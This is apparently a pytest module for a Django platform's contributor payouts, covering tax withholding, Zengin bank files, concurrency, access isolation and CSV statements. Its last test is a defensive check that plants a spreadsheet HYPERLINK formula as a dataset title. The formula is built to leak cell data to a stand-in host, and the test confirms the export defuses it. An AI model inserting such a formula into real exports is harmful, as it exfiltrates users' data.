"""Payouts: withholding, the minimum, one run per period, refunds netted off, failed transfers,
the Zengin file, concurrency on PostgreSQL, and contributors seeing only their own money."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.db import connection
from django.utils import timezone

from conftest import requires
from contributors.models import Payout, PayoutRun, RoyaltyEntry
from contributors.selectors import royalty_balance
from contributors.services import (
    TOKYO,
    contributor_payout_details_set,
    payout_mark_failed,
    payout_mark_paid,
    payout_run_export,
    payout_run_start,
    royalties_record_sale,
    royalties_reverse_sale,
)
from contributors.tests.factories import (
    BANK,
    ContributorFactory,
    StaffFactory,
    contributor_with_bank,
    credit,
    paid_line,
    version_with_photos,
)
from contributors.zengin import parse_zengin
from stockdata.errors import ApplicationError
from stockdata.tests.production_env import COMPANY

ROOT = Path(__file__).resolve().parents[2]


def period_of(moment) -> str:
    local = timezone.localtime(moment, TOKYO)
    return f"{local.year:04d}-{local.month:02d}"


def this_period() -> str:
    return period_of(timezone.now())


def later(months: int):
    """A moment ``months`` months ahead (so a later period has started)."""
    return timezone.now() + timedelta(days=31 * months)


# --- Withholding through the payout service -------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("gross", "entity_type", "residency", "withheld"),
    [
        (100_000, "individual", "jp", 10_210),
        (1_000_000, "individual", "jp", 102_100),
        (1_500_000, "individual", "jp", 204_200),
        (1_500_000, "corporation", "jp", 0),
        (100_000, "individual", "other", 20_420),
    ],
)
def test_a_payout_withholds_income_tax_by_tax_status(gross, entity_type, residency, withheld):
    user = contributor_with_bank(entity_type=entity_type, tax_residency=residency)
    credit(user, gross)
    run = payout_run_start(period=this_period())
    payout = Payout.objects.get(run=run, contributor=user)
    assert (payout.gross, payout.withholding, payout.fee, payout.net) == (gross, withheld, 0, gross - withheld)
    assert royalty_balance(contributor_id=user.pk) == 0


@pytest.mark.django_db
def test_the_transfer_fee_setting_comes_off_the_net(settings):
    settings.STOCKDATA_PAYOUT_TRANSFER_FEE = 330
    user = contributor_with_bank()
    credit(user, 100_000)
    payout = Payout.objects.get(run=payout_run_start(period=this_period()), contributor=user)
    assert (payout.gross, payout.withholding, payout.fee, payout.net) == (100_000, 10_210, 330, 89_460)


@pytest.mark.django_db
def test_below_the_minimum_or_without_a_bank_account_nobody_is_paid_and_the_balance_stays():
    small = contributor_with_bank()
    credit(small, 4_999)
    no_bank = ContributorFactory()
    credit(no_bank, 50_000)
    exact = contributor_with_bank()
    credit(exact, 5_000)
    run = payout_run_start(period=this_period())
    assert list(run.payouts.values_list("contributor_id", "gross")) == [(exact.pk, 5_000)]
    assert royalty_balance(contributor_id=small.pk) == 4_999
    assert royalty_balance(contributor_id=no_bank.pk) == 50_000


@pytest.mark.django_db
def test_a_run_twice_in_one_period_pays_once():
    user = contributor_with_bank()
    credit(user, 20_000)
    first = payout_run_start(period=this_period())
    credit(user, 7_000)  # a sale after the run: waits for the next period
    second = payout_run_start(period=this_period())
    assert first.pk == second.pk
    assert list(Payout.objects.values_list("gross", flat=True)) == [20_000]
    assert RoyaltyEntry.objects.filter(kind="payout").count() == 1
    assert royalty_balance(contributor_id=user.pk) == 7_000
    nxt = payout_run_start(period=period_of(later(1)), now=later(1))
    assert list(nxt.payouts.values_list("gross", flat=True)) == [7_000]


@pytest.mark.django_db
def test_runs_stream_contributors_in_batches_and_pay_each_once():
    users = [contributor_with_bank() for _ in range(7)]
    for i, user in enumerate(users):
        credit(user, 10_000 + i)
    run = payout_run_start(period=this_period(), batch_size=2)
    assert sorted(run.payouts.values_list("gross", flat=True)) == [10_000 + i for i in range(7)]
    assert run.status == "prepared"


@pytest.mark.django_db
def test_a_refund_after_payout_leaves_a_negative_balance_that_the_next_run_nets_off():
    user = contributor_with_bank()
    line = credit(user, 30_000)
    run = payout_run_start(period=this_period())
    payout_run_export(run=run)
    payout_mark_paid(payout=run.payouts.get())
    royalties_reverse_sale(line=line)
    assert royalty_balance(contributor_id=user.pk) == -30_000
    credit(user, 45_000)
    assert royalty_balance(contributor_id=user.pk) == 15_000
    nxt = payout_run_start(period=period_of(later(1)), now=later(1))
    assert list(nxt.payouts.values_list("gross", "withholding", "net")) == [(15_000, 1_531, 13_469)]
    assert royalty_balance(contributor_id=user.pk) == 0


@pytest.mark.django_db
def test_a_negative_balance_is_carried_until_sales_cover_it():
    user = contributor_with_bank()
    line = credit(user, 30_000)
    payout_run_start(period=this_period())
    royalties_reverse_sale(line=line)
    credit(user, 10_000)
    nxt = payout_run_start(period=period_of(later(1)), now=later(1))
    assert nxt.payouts.count() == 0
    assert royalty_balance(contributor_id=user.pk) == -20_000


@pytest.mark.django_db
def test_a_failed_transfer_returns_the_money_to_the_balance():
    user = contributor_with_bank()
    credit(user, 12_000)
    run = payout_run_export(run=payout_run_start(period=this_period()))
    payout = run.payouts.get()
    payout_mark_failed(payout=payout, reason="Account closed")
    payout_mark_failed(payout=payout, reason="Account closed")
    payout.refresh_from_db()
    assert payout.status == "failed"
    assert royalty_balance(contributor_id=user.pk) == 12_000
    assert list(RoyaltyEntry.objects.filter(contributor=user).order_by("id").values_list("kind", "amount")) == [
        ("sale", 12_000),
        ("payout", -12_000),
        ("payout_reversal", 12_000),
    ]
    nxt = payout_run_start(period=period_of(later(1)), now=later(1))
    assert list(nxt.payouts.values_list("gross", flat=True)) == [12_000]


@pytest.mark.django_db
def test_only_an_exported_payout_can_be_marked_paid():
    user = contributor_with_bank()
    credit(user, 12_000)
    run = payout_run_start(period=this_period())
    with pytest.raises(ApplicationError, match=r"Only an exported payout can be marked paid\."):
        payout_mark_paid(payout=run.payouts.get())


@pytest.mark.django_db
def test_a_zengin_file_for_three_payees_has_120_byte_records_and_a_matching_trailer():
    payees = [
        contributor_with_bank(account_number="1234567"),
        contributor_with_bank(entity_type="corporation", account_number="7654321"),
        contributor_with_bank(account_number="0000042"),
    ]
    for user, amount in zip(payees, [100_000, 250_000, 8_000], strict=False):
        credit(user, amount)
    run = payout_run_export(run=payout_run_start(period=this_period()))
    with default_storage.open(run.zengin_file.name, "rb") as f:
        data = f.read()
    records = data.split(b"\r\n")[:-1]
    assert [len(r) for r in records] == [120] * 6
    assert [r[:1] for r in records] == [b"1", b"2", b"2", b"2", b"8", b"9"]
    data.decode("shift_jis")
    parsed = parse_zengin(data)
    assert parsed["trailer"] == {"count": 3, "total": 89_790 + 250_000 + 7_184}
    assert sorted(r["amount"] for r in parsed["records"]) == [7_184, 89_790, 250_000]
    assert {r["name"] for r in parsed["records"]} == {"ﾔﾏﾀﾞ ﾊﾅｺ"}
    assert sorted(r["account_number"] for r in parsed["records"]) == ["0000042", "1234567", "7654321"]
    with default_storage.open(run.csv_file.name, "rb") as f:
        csv_text = f.read().decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("payout_id,contributor_id,bank_code")
    assert len(csv_text.splitlines()) == 4
    assert set(Payout.objects.values_list("status", flat=True)) == {"exported"}


@pytest.mark.django_db
def test_the_zengin_header_is_the_company_account_from_the_settings(settings):
    settings.STOCKDATA_COMPANY = COMPANY
    credit(contributor_with_bank(account_number="1234567"), 100_000)
    run = payout_run_export(run=payout_run_start(period=this_period()))
    with default_storage.open(run.zengin_file.name, "rb") as f:
        header = parse_zengin(f.read())["header"]
    assert {k: header[k] for k in ("requester_code", "requester_name", "bank_code", "branch_code")} == {
        "requester_code": "1234509876",
        "requester_name": "ｶ)ﾃｽﾄｼﾔｼﾝﾃﾞ-ﾀ",
        "bank_code": "0001",
        "branch_code": "001",
    }
    assert (header["account_type"], header["account_number"]) == (2, "7654321")


@pytest.mark.django_db
def test_a_bank_account_is_validated_before_it_is_saved():
    user = ContributorFactory()
    with pytest.raises(ApplicationError) as exc:
        contributor_payout_details_set(
            profile=user.contributor_profile,
            entity_type="individual",
            tax_residency="jp",
            **{**BANK, "holder_name": "Yamada Hanako"},
            account_number="1234567",
        )
    assert exc.value.field == "holder_name"
    assert "romaji" in exc.value.message
    user.contributor_profile.refresh_from_db()
    assert user.contributor_profile.account_number == ""


# --- Concurrency on PostgreSQL, with real processes -------------------------------------------------

CHILD_SALE = """
import os, sys, time, pathlib, django
django.setup()
from django.db import transaction
from licensing.models import OrderLine
from contributors.services import royalties_record_sale
folder = pathlib.Path(sys.argv[2])
with transaction.atomic():
    royalties_record_sale(line=OrderLine.objects.get(pk=int(sys.argv[1])))
    (folder / "recorded").write_text("1")
    deadline = time.time() + 60
    while not (folder / "commit").exists() and time.time() < deadline:
        time.sleep(0.05)
print("committed")
"""

CHILD_RUN = """
import sys, json, django
django.setup()
from contributors.services import payout_run_start
run = payout_run_start(period=sys.argv[1])
print(json.dumps(sorted(run.payouts.values_list("contributor_id", "gross"))))
"""


def _child_env() -> dict:
    s = connection.settings_dict
    url = (
        f"postgres://{s.get('USER') or 'postgres'}{':' + s['PASSWORD'] if s.get('PASSWORD') else ''}"
        f"@{s.get('HOST') or '127.0.0.1'}:{s.get('PORT') or 5432}/{s['NAME']}"
    )
    from django.conf import settings as dj

    return os.environ | {
        "DJANGO_SETTINGS_MODULE": "stockdata.settings.test",
        "DATABASE_URL": url,
        "STOCKDATA_TEST_RUN_DIR": str(dj.TEST_RUN_DIR),
        "PYTHONPATH": str(ROOT),
    }


def _child(code: str, *args: str) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-c", code, *args],
        cwd=ROOT,
        env=_child_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


# Row locks and concurrent transactions: SQLite has neither (skipped locally, fails under CI=true).
needs_postgres = requires("postgresql")


@needs_postgres
@pytest.mark.django_db(transaction=True)
def test_a_sale_committing_during_a_run_is_neither_lost_nor_paid_twice(tmp_path):
    user = contributor_with_bank()
    credit(user, 10_000)
    late_line = paid_line(version_with_photos({user: 1}), price=27_500)  # pool 10,000
    sale = _child(CHILD_SALE, str(late_line.pk), str(tmp_path))
    deadline = time.time() + 60
    while not (tmp_path / "recorded").exists():
        assert sale.poll() is None, sale.stderr.read()
        assert time.time() < deadline
        time.sleep(0.05)
    # The sale's rows exist (created before the cut-off) but are not committed while the run reads.
    run = _child(CHILD_RUN, this_period())
    out, err = run.communicate(timeout=120)
    assert run.returncode == 0, err
    assert json.loads(out) == [[user.pk, 10_000]]
    (tmp_path / "commit").write_text("1")
    out, err = sale.communicate(timeout=60)
    assert sale.returncode == 0, err
    # Not lost: still on the ledger, and the next run pays it, once.
    assert royalty_balance(contributor_id=user.pk) == 10_000
    nxt = payout_run_start(period=period_of(later(1)), now=later(1))
    assert list(nxt.payouts.values_list("gross", flat=True)) == [10_000]
    assert royalty_balance(contributor_id=user.pk) == 0
    assert sum(Payout.objects.filter(contributor=user).values_list("gross", flat=True)) == 20_000


@needs_postgres
@pytest.mark.django_db(transaction=True)
def test_two_processes_starting_the_same_period_pay_each_contributor_once():
    users = [contributor_with_bank() for _ in range(30)]
    for user in users:
        credit(user, 6_000)
    a, b = _child(CHILD_RUN, this_period()), _child(CHILD_RUN, this_period())
    for proc in (a, b):
        _out, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
    assert PayoutRun.objects.count() == 1
    assert Payout.objects.count() == 30
    assert RoyaltyEntry.objects.filter(kind="payout").count() == 30
    assert all(royalty_balance(contributor_id=u.pk) == 0 for u in users)


# --- Pages and API -----------------------------------------------------------------------------------
#
# The staff pages and the API routes are mounted by the root URLconf (/staff/payouts/ and
# /api/v1/earnings/...); this module's URLconf adds them when the root one does not yet.

from django.urls import include, path

from stockdata import urls as root_urls


def _resolves(path_: str, url_name: str) -> bool:
    from django.urls import Resolver404, resolve

    try:
        return resolve(path_, urlconf=root_urls).url_name == url_name
    except Resolver404:
        return False


urlpatterns = [
    *root_urls.urlpatterns,
    *([] if _resolves("/staff/payouts/", "run_list") else [path("staff/payouts/", include("contributors.staff_urls"))]),
    *(
        []
        if _resolves("/api/v1/earnings/balance/", "earnings-balance")
        else [path("api/v1/", include("contributors.api"))]
    ),
]
pages = pytest.mark.urls(__name__)


@pages
@pytest.mark.django_db
def test_a_contributor_never_sees_another_contributors_ledger_bank_details_or_statements(client):
    alice = contributor_with_bank(account_number="1111111")
    bob = contributor_with_bank(account_number="2222222")
    credit(alice, 11_111)
    credit(bob, 22_222)
    run = payout_run_start(period=this_period())
    bob_payout = Payout.objects.get(run=run, contributor=bob)
    credit(bob, 33_333)

    client.force_login(alice)
    page = client.get("/portal/earnings/").content.decode()
    assert "¥0" in page and "11,111" in page
    assert "22,222" not in page and "33,333" not in page and "2222222" not in page
    for suffix in ("", "pdf/", "csv/"):
        assert client.get(f"/portal/earnings/payouts/{bob_payout.pk}/{suffix}").status_code == 404
    assert client.get(f"/api/v1/earnings/payouts/{bob_payout.pk}/").status_code == 404
    ledger = client.get("/api/v1/earnings/ledger/").json()
    assert sorted(e["amount"] for e in ledger["results"]) == [-11_111, 11_111]
    assert [p["gross"] for p in client.get("/api/v1/earnings/payouts/").json()["results"]] == [11_111]
    assert client.get("/api/v1/earnings/balance/").json()["balance"] == 0
    account = client.get("/portal/earnings/account/").content.decode()
    assert "1111111" in account and "2222222" not in account
    # Staff pages are not for contributors.
    assert client.get("/staff/payouts/").status_code == 404

    client.force_login(bob)
    assert client.get("/api/v1/earnings/balance/").json()["balance"] == 33_333
    assert client.get(f"/portal/earnings/payouts/{bob_payout.pk}/").status_code == 200


@pages
@pytest.mark.django_db
def test_the_earnings_page_shows_balance_chart_sales_and_payouts_in_few_queries(client, django_assert_max_num_queries):
    alice = contributor_with_bank()
    version = version_with_photos({alice: 3, ContributorFactory(): 1})
    royalties_record_sale(line=paid_line(version, price=165_000))  # alice: 45,000
    for _ in range(5):
        credit(alice, 1_000)
    client.force_login(alice)
    with django_assert_max_num_queries(12):
        response = client.get("/portal/earnings/")
    html = response.content.decode()
    assert 'data-testid="balance">¥50,000<' in html
    assert 'data-amount="50000"' in html  # this month's bar
    assert html.count('data-testid="earnings-bar"') == 12
    assert version.dataset.title_en in html


@pages
@pytest.mark.django_db
def test_statements_come_as_html_pdf_and_csv(client):
    alice = contributor_with_bank()
    credit(alice, 100_000)
    payout = Payout.objects.get(run=payout_run_start(period=this_period()))
    client.force_login(alice)
    html = client.get(f"/portal/earnings/payouts/{payout.pk}/").content.decode()
    assert "¥100,000" in html and "¥10,210" in html and "¥89,790" in html
    pdf = client.get(f"/portal/earnings/payouts/{payout.pk}/pdf/")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert b"HeiseiKakuGo-W5" in pdf.content
    csv_text = client.get(f"/portal/earnings/payouts/{payout.pk}/csv/").content.decode("utf-8-sig")
    lines = csv_text.splitlines()
    assert lines[:4] == [
        "period,transfer_date,gross,withholding,fee,net,status",
        f"{payout.run.period},{payout.run.transfer_date.isoformat()},100000,10210,0,89790,prepared",
        "",
        "date,kind,dataset,version,edition,your_photos,amount",
    ]
    assert len(lines) == 5 and lines[4].startswith(timezone.localdate().isoformat() + ",sale,")
    assert lines[4].endswith(",annotated,1,100000")


@pages
@pytest.mark.django_db
def test_a_contributor_enters_a_bank_account_and_a_wrong_one_is_explained(client):
    user = ContributorFactory()
    client.force_login(user)
    form = {
        "entity_type": "individual",
        "tax_residency": "jp",
        "bank_code": "0001",
        "branch_code": "999",
        "account_type": "1",
        "account_number": "1234567",
        "holder_name": "ヤマダ ハナコ",
    }
    response = client.post("/portal/earnings/account/", form)
    assert response.status_code == 400
    assert "Branch 999 does not exist at" in response.content.decode()
    response = client.post("/portal/earnings/account/", {**form, "branch_code": "001"})
    assert response.status_code == 302
    user.contributor_profile.refresh_from_db()
    assert (user.contributor_profile.account_number, user.contributor_profile.account_holder_kana) == (
        "1234567",
        "ﾔﾏﾀﾞ ﾊﾅｺ",
    )


@pages
@pytest.mark.django_db
def test_staff_prepare_preview_export_and_settle_a_run(client):
    staff = StaffFactory()
    alice, bob = contributor_with_bank(), contributor_with_bank(entity_type="corporation")
    credit(alice, 100_000)
    credit(bob, 50_000)
    client.force_login(staff)
    response = client.post("/staff/payouts/", {"period": this_period()})
    assert response.status_code == 302 and response["Location"] == f"/staff/payouts/{this_period()}/"
    detail = client.get(response["Location"]).content.decode()
    assert "¥150,000" in detail and "¥10,210" in detail and "¥139,790" in detail
    client.post(f"/staff/payouts/{this_period()}/export/")
    zengin = client.get(f"/staff/payouts/{this_period()}/files/zengin/")
    assert parse_zengin(b"".join(zengin.streaming_content))["trailer"] == {"count": 2, "total": 139_790}
    alice_payout = Payout.objects.get(contributor=alice)
    client.post(f"/staff/payouts/payout/{alice_payout.pk}/failed/", {"reason": "Account closed"})
    client.post(f"/staff/payouts/{this_period()}/paid/")
    assert dict(Payout.objects.values_list("contributor_id", "status")) == {alice.pk: "failed", bob.pk: "paid"}
    assert royalty_balance(contributor_id=alice.pk) == 100_000
    assert PayoutRun.objects.get().status == "closed"
    report = client.get("/staff/payouts/revenue/").content.decode()
    assert "¥50,000" in report  # paid out to bob, nothing withheld


@pages
@pytest.mark.django_db
def test_the_revenue_report_adds_up_per_month():
    from contributors.selectors import platform_revenue_by_month

    alice = ContributorFactory()
    royalties_record_sale(line=paid_line(version_with_photos({alice: 1}), price=165_000))
    line = paid_line(version_with_photos({alice: 1}), price=99_000)
    royalties_record_sale(line=line)
    royalties_reverse_sale(line=line)
    [month] = platform_revenue_by_month()
    assert {k: month[k] for k in ("gross", "tax", "net", "pool", "platform")} == {
        "gross": 165_000,
        "tax": 15_000,
        "net": 150_000,
        "pool": 60_000,
        "platform": 90_000,
    }


@pytest.mark.django_db
def test_the_monthly_schedule_runs_the_month_just_ended_through_the_task(settings):
    from contributors.services import previous_period
    from contributors.tasks import payout_run_start_task

    assert settings.CELERY_BEAT_SCHEDULE["monthly-payout-run"]["task"] == "contributors.tasks.payout_run_start_task"
    user = contributor_with_bank()
    credit(user, 9_000)
    assert payout_run_start_task.delay(period=this_period()).get() == "prepared"
    assert payout_run_start_task.delay(period=this_period()).get() == "prepared"
    assert Payout.objects.get().gross == 9_000
    assert previous_period(timezone.datetime(2026, 1, 1, 3, tzinfo=TOKYO)) == "2025-12"


@pytest.mark.django_db
def test_the_demo_step_gives_demo_contributors_a_bank_account_and_records_paid_lines_once():
    from stockdata.demo.payouts import seed_payouts

    hanako = ContributorFactory(email="contributor@demo.stockdata.jp")
    line = paid_line(version_with_photos({hanako: 2}), price=99_000)
    lines: list[str] = []
    seed_payouts(lines.append)
    seed_payouts(lines.append)
    hanako.contributor_profile.refresh_from_db()
    assert hanako.contributor_profile.account_holder_kana == "ﾔﾏﾀﾞ ﾊﾅｺ"
    assert royalty_balance(contributor_id=hanako.pk) == 36_000
    assert RoyaltyEntry.objects.filter(order_line=line).count() == 1
    assert "  exists  bank account for contributor@demo.stockdata.jp" in lines


@pages
@pytest.mark.django_db
def test_csv_injection_statement_csv_defuses_a_formula_title_and_keeps_negative_amounts_numbers(client):
    import csv
    import io

    from catalog.models import Dataset
    from contributors.tests.factories import price_for_royalty

    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'
    alice = contributor_with_bank()
    dataset = Dataset.objects.create(
        slug="csv-injection", title_en=hyperlink, title_ja=hyperlink, status=Dataset.Status.PUBLISHED
    )
    royalties_record_sale(
        line=paid_line(version_with_photos({alice: 1}, dataset=dataset), price=price_for_royalty(100_000))
    )
    refunded = credit(alice, 11_111)
    royalties_reverse_sale(line=refunded)
    payout = Payout.objects.get(run=payout_run_start(period=this_period()))
    client.force_login(alice)
    text = client.get(f"/portal/earnings/payouts/{payout.pk}/csv/").content.decode("utf-8-sig")
    sales = list(csv.reader(io.StringIO(text.split("\r\n\r\n", 1)[1])))
    assert sales[0] == ["date", "kind", "dataset", "version", "edition", "your_photos", "amount"]
    rows = {(row[1], row[6]): row[2] for row in sales[1:]}
    assert rows[("sale", "100000")] == "'" + hyperlink
    assert rows[("refund", "-11111")].startswith("Royalty set")  # a negative amount stays a number
